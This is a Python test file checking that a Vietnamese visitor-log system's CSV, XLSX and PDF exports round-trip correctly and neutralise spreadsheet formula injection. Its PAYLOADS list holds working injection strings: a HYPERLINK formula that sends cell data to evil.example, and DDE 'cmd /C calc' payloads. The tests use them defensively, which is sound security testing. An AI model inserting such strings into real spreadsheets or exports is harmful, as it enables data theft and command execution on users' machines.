"""Exports round-trip (CSV with BOM, XLSX via openpyxl, PDF text via pypdf) and stay inert."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.support.requirements import skip_or_fail
from tests.tracing.conftest import NOW, local
from tracing import exporting, exports
from tracing.exports import FORMULA_TRIGGERS, Column, ExportError, Table, neutralise
from tracing.folding import fold_name

NAMES = ["Nguyễn Văn An", "Đặng Thị Ánh Tuyết", "Trương Quốc Bảo", "Lý Thị Hường",
         "Phó Đức Phương", "Âu Dương Ỷ Lan"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def venue_with_visits(session, make_venue, make_visitor, make_visit):
    venue = make_venue(code="UBND-HK", name="UBND phường Hoàn Kiếm")
    for i, name in enumerate(NAMES + PAYLOADS):
        visitor = make_visitor(full_name=name, name_folded=fold_name(name),
                               phone_e164=f"+8491234{i:04d}", id_number=f"00109001{i:04d}")
        make_visit(visitor=visitor, venue=venue, checked_in_at=local(10, 8, i),
                   checked_out_at=local(10, 9, i))
    return venue


def _export(session, venue, fmt):
    return exporting.export_visits(session=session, venue=venue, since=local(10, 0),
                                  until=local(11, 0), fmt=fmt, now=NOW, actor="tester",
                                  channel="test")


def test_csv_has_a_bom_vietnamese_headers_and_correct_diacritics(session, venue_with_visits):
    export = _export(session, venue_with_visits, "csv")
    assert export.filename == "luot-vao_UBND-HK_20260310-0000_20260311-0000.csv"
    data = export.read()
    assert data[:3] == b"\xef\xbb\xbf"
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    assert rows[0] == ["Mã lượt", "Mã địa điểm", "Họ và tên", "Số điện thoại", "Số giấy tờ",
                       "Giờ vào (giờ Việt Nam)", "Giờ ra (giờ Việt Nam)", "Cách ra",
                       "Trạng thái"]
    assert [r[2] for r in rows[1:7]] == NAMES
    assert rows[1][5:9] == ["2026-03-10 08:00:00", "2026-03-10 09:00:00", "Quét mã",
                            "Bình thường"]


def test_csv_injection_payloads_come_out_inert(session, venue_with_visits):
    rows = list(csv.reader(io.StringIO(_export(session, venue_with_visits, "csv").read()
                                       .decode("utf-8-sig"), newline="")))
    assert [r[2] for r in rows[7:]] == ["'" + p for p in PAYLOADS]
    id_column = rows[0].index("Số giấy tờ")
    for row in rows:
        for number, cell in enumerate(row):
            if number == id_column and re.fullmatch(r'="[0-9]+"', cell):
                continue  # our own wrapper around digits, so a spreadsheet keeps the zeros
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    assert rows[1][3] == "0912 340 000"   # as dialled: no "+" to read as a formula, 0 kept
    assert rows[1][id_column] == '="001090010000"'  # the leading zeros survive a spreadsheet


def test_the_id_wrapper_takes_digits_only():
    from tracing.exports import _csv_id

    assert _csv_id("001090012345") == '="001090012345"'
    for text in ("B1234567", "'=1+1", "=1+1", "0912 345 678", "", '1"+"2'):
        assert _csv_id(text) == text


def test_xlsx_round_trips_with_real_dates_and_no_formulas(session, venue_with_visits):
    export = _export(session, venue_with_visits, "xlsx")
    workbook = load_workbook(io.BytesIO(export.read()))
    sheet = workbook["Lượt vào"]
    rows = list(sheet.iter_rows())
    assert rows[0][2].value == "Họ và tên" and rows[0][2].font.b
    assert [r[2].value for r in rows[1:7]] == NAMES
    assert rows[1][5].value == datetime(2026, 3, 10, 8, 0)       # Hà Nội wall-clock time
    assert rows[1][5].is_date
    payload_cells = [r[2] for r in rows[7:]]
    assert [c.value for c in payload_cells] == PAYLOADS            # shown as typed…
    assert all(c.data_type == "s" and c.quotePrefix for c in payload_cells)   # …but as text
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_pdf_text_contains_the_vietnamese_names(session, venue_with_visits):
    export = _export(session, venue_with_visits, "pdf")
    reader = PdfReader(io.BytesIO(export.read()))
    content = "\n".join(page.extract_text() for page in reader.pages)
    for name in NAMES:
        assert name in content, name
    assert "Danh sách lượt vào — UBND phường Hoàn Kiếm (UBND-HK)" in content
    assert "Họ và tên" in content and "Giờ vào" in content


def test_pdf_refuses_more_rows_than_a_printout_can_hold(monkeypatch):
    monkeypatch.setattr(exports, "PDF_MAX_ROWS", 3)
    table = Table("x", [Column("Họ và tên")], ([f"Người {i}"] for i in range(5)))
    with pytest.raises(ExportError) as info:
        exports.build("pdf", [table], filename="x", title="x")
    assert info.value.code == "too_many_rows_for_pdf"


def test_every_format_is_audited_with_the_hash_of_what_was_sent(session, venue_with_visits):
    import hashlib

    from sqlmodel import select

    from core.models import AuditEvent

    for fmt in ("csv", "xlsx", "pdf"):
        export = _export(session, venue_with_visits, fmt)
        data = export.read()
        event = session.exec(select(AuditEvent).order_by(AuditEvent.seq.desc())).first()
        assert (event.action, event.row_count) == ("visits.export", 12)
        assert event.file_sha256 == hashlib.sha256(data).hexdigest() == export.sha256
        assert event.details["format"] == fmt and event.details["venue"] == "UBND-HK"


def test_file_names_carry_what_where_and_when():
    since = datetime(2026, 3, 9, 17, 0, tzinfo=timezone.utc)
    until = datetime(2026, 3, 10, 17, 0, tzinfo=timezone.utc)
    assert exports.file_stem("luot-vao", "Bệnh viện/../x", since, until) == \
        "luot-vao_B-nh-vi-n-x_20260310-0000_20260311-0000"


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_any_text_survives_csv_and_never_starts_like_a_formula(values):
    out = io.BytesIO()
    columns = [Column(f"c{i}") for i in range(len(values))]
    exports.write_csv(out, [Table("t", columns, iter([values]))])
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert rows[1] == [neutralise(v) for v in values]
    for cell in rows[1]:
        assert not cell.startswith(FORMULA_TRIGGERS)
        if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS):
            assert cell[1:] in values


def test_libreoffice_keeps_id_numbers_as_text(session, venue_with_visits, tmp_path):
    """Opened in LibreOffice Calc (headless, converting the CSV to XLSX), an ID number keeps its
    leading zeros and a phone stays as dialled. Needs LibreOffice Calc (`make test` installs
    Debian's libreoffice-calc-nogui; CI fails rather than skips without it)."""
    import shutil
    import subprocess

    import openpyxl

    soffice = shutil.which("soffice")
    if soffice is None:
        skip_or_fail("LibreOffice (soffice) is not installed")
    path = tmp_path / "visits.csv"
    path.write_bytes(_export(session, venue_with_visits, "csv").read())
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
                    str(tmp_path), str(path)], check=True, timeout=180,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    sheet = openpyxl.load_workbook(tmp_path / "visits.xlsx", data_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    assert rows[1][header.index("Số giấy tờ")] == "001090010000"
    assert rows[1][header.index("Số điện thoại")] == "0912 340 000"
